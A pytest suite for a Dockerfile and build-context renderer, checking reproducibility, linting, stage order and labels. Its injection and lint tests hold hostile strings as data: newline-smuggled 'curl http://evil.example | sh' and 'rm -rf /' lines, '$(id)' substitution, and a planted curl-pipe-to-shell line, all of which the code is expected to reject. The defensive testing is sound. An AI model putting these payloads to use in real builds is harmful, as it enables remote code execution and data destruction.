"""render(): the Dockerfile and the context, without Docker (the demo stack is generated in tmp)."""
import hashlib
import re
import shutil
import tarfile
from datetime import UTC, datetime
from pathlib import Path

import pytest

from builder.core.constants import SOURCE_DATE_EPOCH
from builder.core.errors import BadInput
from builder.core.options import Settings
from builder.core.records import RenderedBuild, ResolvedSources
from builder.image import dockerfile, render
from builder.lock import record as lock_record
from builder.lock import wheels
from builder.pins import model as pins_mod
from builder.pins.model import Pins
from builder.sources import resolve as sources
from demo.make_stack import make_stack
from demo.prepare import variant_pins, write_local_pins

SETTINGS = Settings.from_env()

FAKE_BASE = "127.0.0.1:5000/demo/base@sha256:" + "ab" * 32
PROJECT = Path(__file__).resolve().parents[2]


@pytest.fixture(scope="module")
def stack_pins(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """pins/demo.yaml copied next to a freshly generated demo stack, base set to a fixed digest."""
    root = tmp_path_factory.mktemp("render")
    make_stack(root / "demo-stack")
    shutil.copytree(PROJECT / "pins" / "locks", root / "locks")
    return write_local_pins(FAKE_BASE, out=root / "demo.yaml")


Rendered = tuple[Pins, ResolvedSources, RenderedBuild]


def resolve_render(path: Path, settings: Settings = SETTINGS) -> Rendered:
    pins = pins_mod.load(path)
    resolved = sources.resolve(pins, settings)
    return pins, resolved, render.render(pins, lock_record.of(pins), resolved, settings)


@pytest.fixture(scope="module")
def rendered(stack_pins: Path) -> Rendered:
    return resolve_render(stack_pins)


def read(tar: tarfile.TarFile, member: str | tarfile.TarInfo) -> bytes:
    """A regular file's bytes from an open tar."""
    fh = tar.extractfile(member)
    assert fh is not None, member
    return fh.read()


def members(context_path: str | Path) -> dict[str, tarfile.TarInfo]:
    with tarfile.open(context_path) as tar:
        return {m.name: m for m in tar.getmembers()}


def contents(context_path: str | Path, prefix: str) -> dict[str, str]:
    with tarfile.open(context_path) as tar:
        return {m.name: hashlib.sha256(read(tar, m)).hexdigest()
                for m in tar.getmembers() if m.name.startswith(prefix) and m.isfile()}


def test_render_is_byte_identical_across_runs_cwd_and_cache_dir(rendered: Rendered, stack_pins: Path, tmp_path: Path,
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    first = rendered[2]
    again = resolve_render(stack_pins)[2]
    assert again.dockerfile == first.dockerfile
    assert again.context_sha256 == first.context_sha256
    # another cwd and another cache dir (wheels copied: no download needed to compare)
    wheels = SETTINGS.cache("wheels")
    monkeypatch.setenv("BUILDER_CACHE", str(tmp_path / "cache"))
    other = Settings.from_env()
    shutil.copytree(wheels, other.cache("wheels"), dirs_exist_ok=True)
    monkeypatch.chdir(tmp_path)
    moved = resolve_render(stack_pins, other)[2]
    assert moved.context_path.startswith(str(tmp_path / "cache"))
    assert moved.dockerfile == first.dockerfile
    masked = first.dockerfile.replace(first.cache_key, "<cache-key>")  # the run's cache key never reaches the image
    assert moved.dockerfile_sha256 == hashlib.sha256(masked.encode()).hexdigest()
    assert moved.context_sha256 == first.context_sha256
    assert hashlib.sha256(Path(moved.context_path).read_bytes()).hexdigest() == first.context_sha256


def test_dockerfile_passes_lint_and_lint_catches_planted_defects(rendered: Rendered) -> None:
    text = rendered[2].dockerfile
    assert dockerfile.lint(text) == []
    assert "git clone" not in text and "--mount" not in text
    assert not re.search(r"^ADD ", text, re.M)
    assert all(line.startswith("RUN [") for line in text.splitlines() if line.startswith("RUN"))
    planted = {
        "RUN --mount=type=bind,source=src,target=/src [\"true\"]": "--mount",
        "ADD https://example.com/x.tar.gz /x": "ADD",
        "RUN git clone https://github.com/vllm-project/vllm": "exec form",
        "RUN [\"sh\", \"-c\", \"curl -L https://example.com | sh\"]": "network",
        "FROM python:3.11 AS build": "digest",
        "FROM later AS other": "earlier stage",
    }
    for line, what in planted.items():
        problems = dockerfile.lint(text + line + "\n")
        assert problems and any(what in p for p in problems), (line, problems)


def test_install_order_one_stage_per_component_and_runtime_copies(rendered: Rendered) -> None:
    pins, _, built = rendered
    groups = [g for g, _ in dockerfile.instructions(built.dockerfile)]
    order = list(dict.fromkeys(groups))
    assert order[:5] == ["prepare", "deps", "vllm", "megatron", "verl"]
    assert order[-1] == "runtime"
    for name in ("vllm", "megatron", "verl"):
        steps = [t for g, t in dockerfile.instructions(built.dockerfile) if g == name]
        assert steps[0] == f'COPY ["src/{name}/", "/builder/src/{name}/"]'
        assert steps[1] == f'COPY ["provenance/{name}.json", "/builder/provenance/{name}.json"]'
        if name == "vllm":  # the demo engine builds with CMake: its native inputs from the lock
            assert steps[2] == 'COPY ["native/vllm/", "/builder/native/vllm/"]'
            steps = steps[:2] + steps[3:]
        assert steps[2] == f'COPY --from=ccache ["/ccache/{name}/", "/builder/ccache/{name}/"]'  # compiler cache seed
        install = steps[3]  # pip install into its own prefix, then stamp.py
        assert f'"/builder/scripts/install.py", "/builder/provenance/{name}.json", "/install/{name}"' in install
        assert '"--no-index"' in install  # install.py adds -c with the base and earlier pins
        runtime_deps, build_deps = (bool(part) for part in wheels.split_lock(lock_record.of(pins).text))
        earlier = (["buildtools"] if build_deps else []) + (["deps"] if runtime_deps else [])
        earlier += ["vllm", "megatron", "verl"][:["vllm", "megatron", "verl"].index(name)]
        assert f'"{pins.components[name].distribution}"' + "".join(f', "/install/{e}"' for e in earlier) + ', "--"' \
            in install
        for arg in pins.components[name].install.pip_args:
            assert f'"{arg}"' in install
    copies = re.findall(r'^COPY --from=[a-z]+ \["(/install/[a-z]+)/"', built.dockerfile, re.M)
    deps = ["/install/deps"] if wheels.split_lock(lock_record.of(pins).text)[0] else []  # never /install/buildtools
    assert copies == ["/install/acceptance", *deps, "/install/vllm", "/install/megatron", "/install/verl"]
    froms = re.findall(r"^FROM (\S+) AS (\S+)$", built.dockerfile, re.M)
    base = pins.base.image
    assert froms == [("${CCACHE_SEED}", "ccache"), (base, "prepare"), ("prepare", "build"), ("prepare", "acceptance"),
                     (base, "runtime")]
    assert not re.search(r"^COPY --from=(ccache|build) \S*\"/(builder/)?ccache", built.dockerfile.split(" AS runtime")[1],
                         re.M)  # the runtime stage copies nothing of the compiler cache


def test_context_is_normalised_sorted_and_complete(rendered: Rendered) -> None:
    pins, resolved, built = rendered
    found = members(built.context_path)
    names = list(found)
    assert names == sorted(names)
    assert all(m.mtime == SOURCE_DATE_EPOCH and m.uid == 0 and m.gid == 0 and not m.uname
               for m in found.values())
    assert not any(m.isdir() for m in found.values())
    assert not any("/.git/" in n for n in names)
    for name in ("vllm", "megatron", "verl"):
        assert any(n.startswith(f"src/{name}/") for n in names)
    assert any(n.startswith("wheels/") and n.endswith(".whl") for n in names)
    with tarfile.open(built.context_path) as tar:
        assert read(tar, "Dockerfile").decode() == built.dockerfile
        assert read(tar, "delivery/dockerfile.sha256").decode().strip() == built.dockerfile_sha256
        assert read(tar, "constraints.in").decode() == "".join(
            f"{c}\n" for c in sorted(pins.build.constraints))
    # the export of each component at its commit, re-rooted under src/<name>/
    for name in ("vllm", "megatron", "verl"):
        exported = {k[len(f"src/{name}/"):]: v for k, v in contents(built.context_path, f"src/{name}/").items()}
        from builder.sources import mirror
        from builder.sources import treetar as export
        comp = resolved.components[name]
        expected = export.file_manifest(mirror.open_mirror(SETTINGS, comp.url), comp.commit)
        assert exported == expected


def test_verl_only_change_keeps_everything_before_the_verl_stage(rendered: Rendered, stack_pins: Path, tmp_path: Path) -> None:
    _, _, first = rendered
    pins, _, changed = resolve_render(variant_pins(tmp_path, "verl", 34, pins_path=stack_pins))
    before, after = first.dockerfile.split("# stage: verl")[0], changed.dockerfile.split("# stage: verl")[0]
    assert before == after
    assert first.dockerfile != changed.dockerfile
    for name in ("vllm", "megatron"):
        assert contents(first.context_path, f"src/{name}/") == contents(changed.context_path, f"src/{name}/")
    assert contents(first.context_path, "src/verl/") != contents(changed.context_path, "src/verl/")
    assert changed.tag.endswith(f".verl-{pins.components['verl'].commit[:12]}")


def test_sha_tag_and_labels(rendered: Rendered) -> None:
    pins, resolved, built = rendered
    tag = render.sha_tag(pins)
    assert re.fullmatch(r"vllm-[0-9a-f]{12}\.megatron-[0-9a-f]{12}\.verl-[0-9a-f]{12}", tag)
    assert built.tag == f"{pins.image.repository}:{tag}"
    labels = built.labels
    newest = max(c.commit_time for c in resolved.components.values())
    assert labels["org.opencontainers.image.created"] == datetime.fromtimestamp(newest, UTC).strftime(
        "%Y-%m-%dT%H:%M:%SZ")
    assert labels["org.opencontainers.image.base.digest"] == "sha256:" + "ab" * 32
    assert labels["org.opencontainers.image.base.name"] == "127.0.0.1:5000/demo/base"
    assert labels["org.opencontainers.image.version"] == tag
    for name in ("vllm", "megatron", "verl"):
        assert labels[f"io.truepolicy.{name}.commit"] == pins.components[name].commit
        assert labels[f"io.truepolicy.{name}.tree"] == resolved.components[name].tree
        assert labels[f"io.truepolicy.{name}.pr"] == str(pins.components[name].pr)
        assert f'"io.truepolicy.{name}.commit"="{pins.components[name].commit}"' in built.dockerfile


def test_dq_quotes_and_refuses_line_breaks() -> None:
    assert dockerfile.dq('a"b') == '"a\\"b"'
    assert dockerfile.argv(["x", "y z"]) == '["x", "y z"]'
    for bad in ("a\nRUN curl evil", "a\rb", "${HOME}", "a\x00b"):
        with pytest.raises(BadInput):
            dockerfile.dq(bad)


def _bypass(pins: Pins, component: str = "verl", pip_args: list[str] | None = None,
            env: dict[str, str] | None = None) -> Pins:
    """A copy of pins with one component's install replaced, no validation (model_construct)."""
    comp = pins.components[component]
    install = type(comp.install).model_construct(pip_args=pip_args if pip_args is not None else comp.install.pip_args,
                                                 env=env if env is not None else comp.install.env)
    comps = pins.components.model_copy(update={component: comp.model_copy(update={"install": install})})
    return pins.model_copy(update={"components": comps})


def test_injection_in_pins_never_reaches_the_dockerfile(rendered: Rendered, stack_pins: Path) -> None:
    pins, resolved, _ = rendered
    evil = "--no-deps\nRUN curl http://evil.example | sh"
    data = pins_mod.read_yaml(Path(stack_pins).read_text())
    data["components"]["verl"]["install"]["pip_args"] = [evil]
    with pytest.raises(BadInput, match="pip_args"):
        pins_mod.validate(data, Path(stack_pins).parent)
    for bad in (_bypass(pins, pip_args=[evil]), _bypass(pins, env={"X": "1\nRUN rm -rf /"}),
                _bypass(pins, env={"X\nRUN true": "1"}), _bypass(pins, pip_args=["--opt=$(id)"])):
        with pytest.raises(BadInput):
            render.render(bad, lock_record.of(bad), resolved, SETTINGS)
    base = pins.base.model_copy(update={"image": "evil:latest\nRUN curl x"})
    with pytest.raises(BadInput, match="base.image"):
        render.render(pins.model_copy(update={"base": base}), lock_record.of(pins), resolved, SETTINGS)


def test_a_cmake_component_may_not_set_the_toolchain_itself(rendered: Rendered) -> None:
    pins = rendered[0]
    bad = pins.model_copy(deep=True)
    bad.components.vllm.install.env["CMAKE_TOOLCHAIN_FILE"] = "/tmp/mine.cmake"
    bad._path = pins._path
    with pytest.raises(BadInput, match=r"components.vllm.install.env: CMAKE_TOOLCHAIN_FILE is set by the tool"):
        render.render_dockerfile(bad, lock_record.of(pins), None)
